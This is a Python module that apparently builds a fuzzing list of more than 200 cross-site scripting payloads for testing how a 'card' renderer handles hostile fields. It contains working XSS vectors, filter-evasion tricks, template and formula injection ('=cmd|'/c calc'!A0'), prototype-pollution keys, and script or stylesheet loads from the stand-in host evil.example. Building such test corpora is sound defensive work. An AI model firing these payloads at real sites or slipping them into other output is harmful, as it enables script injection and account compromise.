"""Text that would like to be a program: what a hostile card puts into every field."""

from __future__ import annotations

from itertools import product

CODE = "window.owned=1"
TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "details open",
    "input autofocus",
    "marquee",
    "iframe src=x",
    "object data=x",
    "audio src=x",
)
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerover", "onanimationstart", "onbegin")
QUOTES = ("", '"', "'", "`", "-->", "</title>", "</script>", "]]>", "\\u003c", "{{", "</textarea>", "\u2028")
URLS = (
    f"javascript:{CODE}", f"JaVaScRiPt:{CODE}", f"java\tscript:{CODE}", f"data:text/html,<script>{CODE}</script>",
    f"vbscript:{CODE}", "//evil.example/x.js", f"\x01javascript:{CODE}", f"blob:{CODE}",
)  # fmt: skip
WHOLE = (
    f"<script>{CODE}</script>", f"<scr<script>ipt>{CODE}</scr</script>ipt>", f"<SCRIPT/x>{CODE}</SCRIPT>",
    "<script src=//evil.example/x.js></script>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", f"<form action='javascript:{CODE}'><button>",
    f"<math><mtext></p><img src onerror={CODE}>", f"<noscript><p title='</noscript><img src=x onerror={CODE}>'>",
    f"${{{CODE}}}", f"{{{{constructor.constructor('{CODE}')()}}}}", "__proto__",
    "constructor", "toString", "hasOwnProperty",
    f"%3Cscript%3E{CODE}%3C/script%3E", f"&lt;script&gt;{CODE}&lt;/script&gt;", "\u202e<b>right to left",
    "=cmd|'/c calc'!A0", "\x00<img src=x>", "<template><script>1</script></template>", "<xss style='x:expression(1)'>",
)  # fmt: skip


def payloads() -> list[str]:
    """More than 200, all different."""
    marked = [f"<{tag} {handler}={CODE}>" for tag, handler in product(TAGS, HANDLERS)]
    broken = [f"{quote}><img src=x onerror={CODE}>{quote}" for quote in QUOTES]
    quoted = [f"{quote} {handler}={CODE} x={quote}" for quote, handler in product(QUOTES[:4], HANDLERS)]
    linked = [f"<a href='{url}'>x</a>" for url in URLS] + [f"<img src='{url}'>" for url in URLS] + list(URLS)
    framed = [f"<iframe srcdoc='{one}'></iframe>" for one in WHOLE] + [
        f"<svg><desc>{one}</desc></svg>" for one in WHOLE
    ]
    return list(dict.fromkeys([*marked, *broken, *quoted, *linked, *framed, *WHOLE]))
